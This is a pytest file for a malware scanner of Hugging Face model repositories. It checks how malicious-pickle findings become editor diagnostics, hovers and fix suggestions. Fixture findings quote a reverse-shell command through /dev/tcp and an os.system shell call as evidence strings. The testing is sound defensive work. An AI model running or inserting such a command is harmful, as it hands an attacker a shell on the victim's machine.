"""Diagnostics from scans and code: rule ids, severities, messages, trust, threshold, suppression; settings."""

from __future__ import annotations

import pytest
from lsprotocol import types

from malhug.analyzers.usercode.references import analyze_code
from malhug.analyzers.usercode.spans import SourceLines, Span
from malhug.core.model import Category, FileReport, Finding, Location, Severity, TraceStep
from malhug.hub.types import RepoScan, SafeRevision
from malhug.server import diagnostics, hover
from malhug.server.settings import Settings, from_environment, merge

SHA = "a" * 40
SAFE = "b" * 40
TEXT = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/evil", trust_remote_code=True)\n'


def evil_scan() -> RepoScan:
    finding = Finding(
        rule="MH101",
        severity=Severity.CRITICAL,
        category=Category.REVERSE_SHELL,
        message="pickle calls os.system",
        location=Location(member="archive/data.pkl", offset=57),
        evidence="os.system('bash -i >& /dev/tcp/127.0.0.1/4242 0>&1')",
    )
    files = [
        FileReport(path="pytorch_model.bin", format="pytorch-zip", findings=[finding]),
        FileReport(path="model.safetensors", format="safetensors"),
    ]
    return RepoScan(
        "org/evil",
        "model",
        None,
        SHA,
        files=files,
        hub_security={
            "repo": {"scansDone": True, "filesWithIssues": [{"path": "pytorch_model.bin", "level": "unsafe"}]},
            "files": {"pytorch_model.bin": {"status": "unsafe"}},
        },
    )


def issues(scan: RepoScan, settings: Settings, safe: SafeRevision | None = None, text: str = TEXT):  # type: ignore[no-untyped-def]
    src = SourceLines(text)
    analysis = analyze_code(text)
    safe_map = {("model", "org/evil"): safe} if safe else {}
    return diagnostics.document_issues(analysis, [], src, {("model", "org/evil", ""): scan}, safe_map, settings)


@pytest.mark.fires("MH706", "MH710")
def test_malicious_repo_is_an_error_on_the_literal_with_fixes() -> None:
    safe = SafeRevision("org/evil", "model", SAFE, SHA, 3)
    found = issues(evil_scan(), Settings(), safe)
    hub = next(i for i in found if i.rule == "MH710")
    assert hub.severity is Severity.CRITICAL
    assert hub.span.line == 1 and TEXT.split("\n")[1][hub.span.col : hub.span.end_col] == '"org/evil"'
    assert "org/evil@aaaaaaaaaaaa is malicious" in hub.message
    assert "reverse-shell, because pytorch_model.bin: MH101 " in hub.message and "[MH101]" not in hub.message
    assert hub.data["safe_sha"] == SAFE and hub.data["category"] == "reverse-shell"
    titles = [f["title"] for f in hub.data["fixes"]]
    assert titles[0].startswith(f'Pin revision="{SAFE}"')
    assert any("use_safetensors=True" in t for t in titles) and "Remove trust_remote_code=True" in titles
    diag = diagnostics.to_diagnostic(hub, "file:///x.py", SourceLines(TEXT).lines, None)
    assert diag.severity == types.DiagnosticSeverity.Error and diag.source == "malhug" and diag.code == "MH710"
    assert diag.code_description is not None and diag.code_description.href.endswith("#mh710")
    assert "MH706" in [i.rule for i in found]


@pytest.mark.fires("MH712")
def test_trust_never_hides_malicious_but_hides_the_rest() -> None:
    trusted = Settings(trusted_repos=("org/*",))
    assert {i.rule for i in issues(evil_scan(), trusted)} == {"MH710"}  # MH706 hidden, MH710 kept
    error = RepoScan("org/evil", "model", None, None, error="gated", error_kind="gated")
    assert issues(error, trusted) == []
    assert {i.rule for i in issues(error, Settings())} == {"MH712", "MH706"}


def test_threshold_and_ignore_comments() -> None:
    high = Settings(severity_threshold=Severity.HIGH)
    assert [i.rule for i in issues(evil_scan(), high)] == ["MH710"]  # medium MH706 below the threshold
    ignored = TEXT.replace("True)\n", "True)  # malhug: ignore[MH710]\n")
    assert [i.rule for i in issues(evil_scan(), Settings(), text=ignored)] == ["MH706"]


@pytest.mark.fires("MH707")
def test_clean_repo_that_ships_code_and_is_unpinned() -> None:
    clean = RepoScan("org/evil", "model", None, SHA, files=[FileReport("modeling_x.py", "python")], ships_code=True)
    found = {i.rule: i for i in issues(clean, Settings())}
    assert set(found) == {"MH707", "MH706"}
    assert found["MH707"].severity is Severity.MEDIUM  # together with trust_remote_code=True
    assert SHA in found["MH707"].data["fixes"][0]["title"]


def _suspicious_scan() -> RepoScan:
    note = Finding(
        rule="MH106",
        severity=Severity.MEDIUM,
        category=Category.UNSAFE_IMPORT,
        message="pickle calls an unknown function",
        location=Location(member="archive/data.pkl", offset=40),
        evidence="mytools.helpers.run_setup('x')",
    )
    files = [FileReport(path="pytorch_model.bin", format="pytorch-zip", findings=[note])]
    return RepoScan("org/evil", "model", None, SHA, files=files)


@pytest.mark.fires("MH711")
def test_suspicious_repo_is_a_warning_that_trust_hides() -> None:
    found = {i.rule: i for i in issues(_suspicious_scan(), Settings())}
    assert set(found) == {"MH711", "MH706"}
    assert found["MH711"].severity is Severity.MEDIUM
    assert "org/evil@aaaaaaaaaaaa is suspicious" in found["MH711"].message and ": MH106 " in found["MH711"].message
    assert "MH711" not in {i.rule for i in issues(_suspicious_scan(), Settings(trusted_repos=("org/*",)))}


@pytest.mark.quiet("MH710", "MH711", "MH712")
def test_a_clean_repo_is_neither_malicious_suspicious_nor_unchecked() -> None:
    # The look-alike of the scans above: the same reference to a repository whose files are clean.
    clean = RepoScan("org/evil", "model", None, SHA, files=[FileReport("pytorch_model.bin", "pytorch-zip")])
    rules = {i.rule for i in issues(clean, Settings())}
    assert not rules & {"MH710", "MH711", "MH712", "MH707"}
    assert rules == {"MH706"}  # the trust_remote_code=True of the text, not the repository


@pytest.mark.quiet("MH707")
def test_a_pinned_reference_to_a_repo_that_ships_code_is_not_unpinned() -> None:
    clean = RepoScan("org/evil", "model", None, SHA, files=[FileReport("modeling_x.py", "python")], ships_code=True)
    pinned = TEXT.replace('"org/evil",', f'"org/evil", revision="{SHA}",')
    assert "MH707" not in {i.rule for i in issues(clean, Settings(), text=pinned)}


def test_script_findings_carry_their_trace() -> None:
    text = "import os\ncmd = 'x'\nos.system(cmd)\n"
    finding = Finding(
        "MH501",
        Severity.HIGH,
        Category.COMMAND_EXEC,
        "runs a command",
        Location(line=3, column=1, end_line=3, end_column=15),
        trace=(TraceStep("assigned to cmd", Location(line=2, column=1, end_line=2, end_column=10)),),
    )
    (issue,) = diagnostics.document_issues(analyze_code(text), [finding], SourceLines(text), {}, {}, Settings())
    diag = diagnostics.to_diagnostic(issue, "file:///s.py", SourceLines(text).lines, None)
    assert (diag.range.start.line, diag.range.start.character, diag.range.end.character) == (2, 0, 14)
    assert diag.related_information is not None
    assert diag.related_information[0].message == "assigned to cmd"
    assert diag.related_information[0].location.range.start == types.Position(line=1, character=0)


def test_hover_names_verdict_sha_category_evidence_and_advice() -> None:
    safe = SafeRevision("org/evil", "model", SAFE, SHA, 3)
    ref = analyze_code(TEXT).refs[0]
    text = hover.repo_markdown(ref, evil_scan(), safe, Settings())
    assert "`org/evil` is malicious" in text and SHA in text
    assert "pytorch_model.bin" in text and "reverse-shell" in text and "/dev/tcp/127.0.0.1/4242" in text
    assert "Hugging Face's own scan: flags `pytorch_model.bin` (unsafe)" in text and f'revision="{SAFE}"' in text
    assert "model.safetensors" not in text  # clean files are counted, not listed


def test_settings_validation_and_environment() -> None:
    env = from_environment({"HF_ENDPOINT": "http://127.0.0.1:9/", "HF_TOKEN": "hf_secret", "HF_HUB_OFFLINE": "1"})
    assert env.hub_endpoint == "http://127.0.0.1:9" and env.offline and env.token == "hf_secret"
    assert "hf_secret" not in repr(env)
    settings, problems = merge(
        env,
        {
            "malhug": {
                "offline": False,
                "severityThreshold": "HIGH",
                "trustedRepos": ["acme/*"],
                "maxDownload": "big",
                "historyDepth": 5,
                "logLevel": "chatty",
                "hubEndpoint": "ftp://x",
                "unknownKey": 1,
            }
        },
    )
    assert not settings.offline and settings.severity_threshold is Severity.HIGH
    assert settings.trusted_repos == ("acme/*",) and settings.history_depth == 5
    assert settings.max_download == Settings().max_download and settings.log_level == "info"
    assert settings.hub_endpoint == "http://127.0.0.1:9"
    assert sorted(p.split(":")[0] for p in problems) == ["malhug.hubEndpoint", "malhug.logLevel", "malhug.maxDownload"]
    assert settings.is_trusted("acme/x") and not settings.is_trusted("other/x")
    assert merge(Settings(), "nonsense")[1][0].startswith("malhug settings: expected an object")


def test_use_safetensors_is_offered_only_when_the_revision_has_safetensors() -> None:
    scan = evil_scan()
    scan.files = [f for f in scan.files if not f.path.endswith(".safetensors")]
    hub = next(i for i in issues(scan, Settings()) if i.rule == "MH710")
    assert not any("use_safetensors" in f["title"] for f in hub.data["fixes"])
    assert "Remove trust_remote_code=True" in [f["title"] for f in hub.data["fixes"]]


def _scan(repo_id: str, repo_type: str, files: list[FileReport], ships_code: bool = False) -> RepoScan:
    return RepoScan(repo_id, repo_type, None, SHA, files=files, ships_code=ships_code)  # type: ignore[arg-type]


def _bad(path: str, fmt: str) -> FileReport:
    evil = Finding(rule="MH101", severity=Severity.CRITICAL, category=Category.CODE_EXEC, message="os.system")
    return FileReport(path=path, format=fmt, findings=[evil])


def _titles(text: str, scan: RepoScan, safe: SafeRevision | None = None) -> dict[str, list[str]]:
    src = SourceLines(text)
    analysis = analyze_code(text)
    key = (scan.repo_type, scan.repo_id, "")
    safe_map = {(scan.repo_type, scan.repo_id): safe} if safe else {}
    found = diagnostics.document_issues(analysis, [], src, {key: scan}, safe_map, Settings())
    return {i.rule: [f["title"] for f in i.data["fixes"]] for i in found}


@pytest.mark.fires("MH710")
def test_use_safetensors_is_not_advised_for_a_dataset_loading_script() -> None:
    """Issue #16: load_dataset has no use_safetensors, and the risk is the script, not weights."""
    text = 'from datasets import load_dataset\nds = load_dataset("org/evil")\n'
    scan = _scan("org/evil", "dataset", [_bad("evil.py", "python"), FileReport("x.safetensors", "safetensors")])
    titles = _titles(text, scan)["MH710"]
    assert not any("use_safetensors" in t for t in titles)
    assert "use_safetensors" not in hover.repo_markdown(analyze_code(text).refs[0], scan, None, Settings())


@pytest.mark.fires("MH710")
def test_use_safetensors_is_not_advised_for_remote_code() -> None:
    """Issue #16: with trust_remote_code the risk is modeling code, which use_safetensors does not stop."""
    scan = _scan(
        "org/evil",
        "model",
        [_bad("modeling_evil.py", "python"), FileReport("model.safetensors", "safetensors")],
        ships_code=True,
    )
    titles = _titles(TEXT, scan)["MH710"]
    assert titles == ["Remove trust_remote_code=True"]
    assert "use_safetensors" not in hover.repo_markdown(analyze_code(TEXT).refs[0], scan, None, Settings())


@pytest.mark.quiet("MH710")
def test_use_safetensors_is_advised_only_for_a_model_class() -> None:
    text = 'from transformers import AutoTokenizer\nt = AutoTokenizer.from_pretrained("org/evil")\n'
    scan = _scan(
        "org/evil", "model", [_bad("pytorch_model.bin", "pytorch-zip"), FileReport("m.safetensors", "safetensors")]
    )
    assert not any("use_safetensors" in t for t in _titles(text, scan)["MH710"])
    model = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/evil")\n'
    assert "Load safetensors weights only (use_safetensors=True)" in _titles(model, scan)["MH710"]


@pytest.mark.fires("MH707")
def test_a_pin_is_offered_only_for_a_revision_that_scans_clean() -> None:
    """Issue #16: on a repository whose every revision is malicious, no fix pins the malicious one."""
    text = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/evil", trust_remote_code=True)\n'
    scan = _scan("org/evil", "model", [_bad("modeling_evil.py", "python")], ships_code=True)
    none_clean = SafeRevision("org/evil", "model", None, SHA, 20)
    titles = _titles(text, scan, none_clean)
    assert not any(t.startswith("Pin") for rule in ("MH707", "MH710") for t in titles[rule])
    assert SHA not in str(titles)
    safe = SafeRevision("org/evil", "model", SAFE, SHA, 3)
    assert _titles(text, scan, safe)["MH707"] == [f'Pin revision="{SAFE}" (newest revision that scans clean)']
    clean = _scan("org/evil", "model", [FileReport("modeling.py", "python")], ships_code=True)
    assert _titles(text, clean)["MH707"] == [f'Pin revision="{SHA}" (the revision scanned, clean)']


LOCAL = "import torch\nstate = torch.load('models/checkpoint.pt')  # malhug: ignore[MH701]\n"


def _local_issues(report: FileReport, text: str = LOCAL) -> list[diagnostics.Issue]:
    src = SourceLines(text)
    analysis = analyze_code(text)
    call = analysis.loads[0].call
    assert call is not None
    local = {call.span: diagnostics.LocalFile("models/checkpoint.pt", "file:///ws/models/checkpoint.pt", report)}
    return diagnostics.document_issues(analysis, [], src, {}, {}, Settings(), local)


@pytest.mark.fires("MH701")
def test_a_load_carries_the_verdict_of_the_local_file_it_reads() -> None:
    """Issue #16: the call gets the file's severity, decisive rule and evidence, and points to the file;
    an ignore comment written for the generic note does not hide a malicious file."""
    evil = Finding(
        rule="MH101",
        severity=Severity.CRITICAL,
        category=Category.REVERSE_SHELL,
        message="pickle calls os.system",
        evidence="os.system('sh -i')",
    )
    (issue,) = _local_issues(FileReport(path="checkpoint.pt", format="pytorch-zip", findings=[evil]))
    assert (issue.rule, issue.severity) == ("MH701", Severity.CRITICAL)
    assert issue.message == (
        "torch.load() loads models/checkpoint.pt, which MalHug finds malicious: reverse-shell, because MH101 "
        "pickle calls os.system: os.system('sh -i')"
    )
    assert issue.data["file_verdict"] == "malicious" and [f["title"] for f in issue.data["fixes"]] == [
        "Use weights_only=True"
    ]
    diag = diagnostics.to_diagnostic(issue, "file:///ws/train.py", SourceLines(LOCAL).lines, None)
    assert diag.severity == types.DiagnosticSeverity.Error
    (related,) = diag.related_information or []
    assert related.location.uri == "file:///ws/models/checkpoint.pt"
    assert related.message == "models/checkpoint.pt: malicious — MH101 pickle calls os.system"


@pytest.mark.quiet("MH701")
def test_a_clean_local_file_leaves_the_generic_note_and_the_ignore_comment_works() -> None:
    assert _local_issues(FileReport(path="checkpoint.pt", format="pytorch-zip")) == []
    (note,) = _local_issues(FileReport(path="checkpoint.pt", format="pytorch-zip"), LOCAL.split("  #")[0] + "\n")
    assert note.rule == "MH701" and note.severity is Severity.LOW and "malicious" not in note.message
    failed_report = FileReport(path="checkpoint.pt", format="unknown", error="truncated zip")
    (failed,) = _local_issues(failed_report, LOCAL.split("  #")[0] + "\n")
    assert failed.severity is Severity.MEDIUM
    assert failed.message.endswith("which MalHug finds error: it could not be analyzed: truncated zip")


@pytest.mark.fires("MH101")
def test_a_load_no_rule_flags_still_carries_a_flagged_files_verdict() -> None:
    """torch.load(..., weights_only=True) or Keras load_model in safe mode of a malicious local file: the
    call gets the file's own rule (the code and the text agree), severity and a pointer to the file."""
    text = "import torch\nstate = torch.load('models/c.pt', weights_only=True)\n"
    evil = Finding(
        rule="MH101", severity=Severity.CRITICAL, category=Category.REVERSE_SHELL, message="pickle calls os.system"
    )
    report = FileReport(path="c.pt", format="pytorch-zip", findings=[evil])
    analysis = analyze_code(text)
    assert analysis.loads == []
    call_span = Span(1, 8, 1, 51)
    func_span = Span(1, 8, 1, 18)
    uri = "file:///ws/models/c.pt"
    local = {call_span: diagnostics.LocalFile("models/c.pt", uri, report, "torch.load", func_span)}
    (issue,) = diagnostics.document_issues(analysis, [], SourceLines(text), {}, {}, Settings(), local)
    assert (issue.rule, issue.severity, issue.span) == ("MH101", Severity.CRITICAL, func_span)
    assert issue.message == (
        "torch.load() loads models/c.pt, which MalHug finds malicious: reverse-shell, because MH101 pickle calls os.system"
    )
    assert issue.related_files == (("models/c.pt: malicious — MH101 pickle calls os.system", uri),)
    clean_report = FileReport("c.pt", "pickle")
    clean = {call_span: diagnostics.LocalFile("models/c.pt", uri, clean_report, "torch.load", func_span)}
    assert diagnostics.document_issues(analysis, [], SourceLines(text), {}, {}, Settings(), clean) == []
